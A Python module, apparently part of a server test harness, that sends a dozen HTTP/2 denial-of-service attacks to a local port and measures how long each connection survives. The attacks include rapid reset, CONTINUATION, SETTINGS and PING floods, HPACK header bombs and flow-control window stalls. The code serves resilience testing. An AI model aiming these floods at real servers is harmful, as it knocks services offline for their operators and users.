# SPDX-License-Identifier: Apache-2.0
"""One who attacks by HTTP/2: connections that are made anew as soon as they are cut.

It sends as fast as it can, from a process of its own, and notes how long each connection lived
from its first octet of attack to its end. What it says is prepared before, so that its own work is
little more than sending.
"""
import collections
import json
import os
import select
import signal
import socket
import struct
import subprocess
import sys
import time

from .check import Failure

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

Result = collections.namedtuple("Result", "cut refused longest alive sent answers")


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream) + payload


def request(path, method=b"\x82"):
    """A field block that leaves the table as it is: method, scheme http, path, authority."""
    return method + b"\x86\x04" + bytes([len(path)]) + path + b"\x01\x0fwww.example.com"


def streams(count, make):
    return b"".join(make(2 * number + 1) for number in range(count))


def attacks():
    """What each attack says: the beginning, and then what is repeated without a pause."""
    plain, slow, large = request(b"/plain"), request(b"/delay/2000"), request(b"/bytes/200000")
    cancel = b"\0\0\0\x08"
    crumbs = b"\x40\x06cookie\x02a=" + b"\xbe" * 4000
    settled = frame(4)
    return {
        "rapid reset": (settled, streams(
            4000, lambda s: frame(1, 5, s, slow) + frame(3, 0, s, cancel))),
        "provoked resets": (settled, streams(
            4000, lambda s: frame(1, 5, s, slow) + frame(8, 0, s, b"\x7f\xff\xff\xff"))),
        "CONTINUATION": (settled + frame(1, 1, 1), frame(9, 0, 1, b"\x82" * 64) * 4000),
        "SETTINGS": (settled, frame(4, 0, 0, b"\0\x04\0\0\xff\xff") * 8000),
        "PING": (settled, frame(6, 0, 0, b"\0" * 8) * 8000),
        "empty DATA": (settled + frame(1, 4, 1, request(b"/sum", b"\x83")), frame(0, 0, 1) * 8000),
        "PRIORITY": (settled, frame(2, 0, 1, b"\0\0\0\0\x01") * 8000),
        "WINDOW_UPDATE": (settled, frame(8, 0, 0, b"\0\0\0\x01") * 8000),
        "tiny references": (
            settled + frame(1, 5, 1, plain + b"\x40\x01x\x7f\xd1\x0e" + b"a" * 2000),
            b"".join(frame(1, 5, 2 * n + 3, plain + b"\xbe" * 8000) for n in range(400))),
        "cookie crumbs": (
            settled, b"".join(frame(1, 5, 2 * n + 1, plain + crumbs) for n in range(400))),
        "closed windows": (
            frame(4, 0, 0, b"\0\x04\0\0\0\0") + streams(100, lambda s: frame(1, 5, s, large)), b""),
        "tiny windows": (
            frame(4, 0, 0, b"\0\x04\0\0\0\x01") + streams(100, lambda s: frame(1, 5, s, large)),
            streams(100, lambda s: frame(8, 0, s, b"\0\0\0\x01"))),
    }


class Attacker:
    """Runs ``main`` in a process of its own; ``stop`` gives what came of it."""

    def __init__(self, scene, port, attack, connections=8):
        self.spec = {"port": port, "attack": attack, "connections": connections}
        here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
        with open(scene.path("attacker.log"), "ab") as errors:
            self.process = subprocess.Popen(
                [sys.executable, "-B", "-m", "harness.attacker", json.dumps(self.spec)],
                stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=errors, cwd=here)

    def stop(self):
        self.process.send_signal(signal.SIGTERM)
        out, _ = self.process.communicate(timeout=20)
        if self.process.returncode:
            raise Failure("the attacker failed")
        return Result(*json.loads(out))

    def end(self):
        if self.process.poll() is None:
            self.process.kill()
            self.process.wait()
        return ""


class Line:
    """One connection of the attacker's."""

    def __init__(self, port):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
        self.sock.connect_ex(("127.0.0.1", port))
        self.began = time.monotonic()
        self.place = 0


def main(spec):
    first, rest = attacks()[spec["attack"]]
    words = memoryview(PREFACE + first + rest)
    running = [True]
    signal.signal(signal.SIGTERM, lambda *_: running.clear())
    poll = select.epoll()
    lines, sent, answers = {}, 0, 0
    lives, refused = [], 0

    def begin():
        line = Line(spec["port"])
        lines[line.sock.fileno()] = line
        poll.register(line.sock.fileno(), select.EPOLLIN | select.EPOLLOUT)

    def end(line, heard):
        nonlocal refused
        lives.append(time.monotonic() - line.began)
        refused += not heard
        poll.unregister(line.sock.fileno())
        del lines[line.sock.fileno()]
        line.sock.close()
        begin()

    for _ in range(spec["connections"]):
        begin()
    while running:
        for fd, events in poll.poll(0.05):
            line = lines[fd]
            try:
                if events & select.EPOLLIN:
                    heard = line.sock.recv(65536)
                    answers += len(heard)
                    if not heard:
                        end(line, True)
                        continue
                if events & select.EPOLLOUT:
                    if line.place < len(words):
                        count = line.sock.send(words[line.place:line.place + 65536])
                        sent += count
                        line.place += count
                    else:
                        poll.modify(fd, select.EPOLLIN)
                if events & (select.EPOLLERR | select.EPOLLHUP):
                    end(line, line.place > 0)
            except OSError:
                end(line, line.place > 0)
    now = time.monotonic()
    alive = max((now - line.began for line in lines.values()), default=0.0)
    print(json.dumps([len(lives), refused, max(lives, default=0.0), alive, sent, answers]))


if __name__ == "__main__":
    main(json.loads(sys.argv[1]))
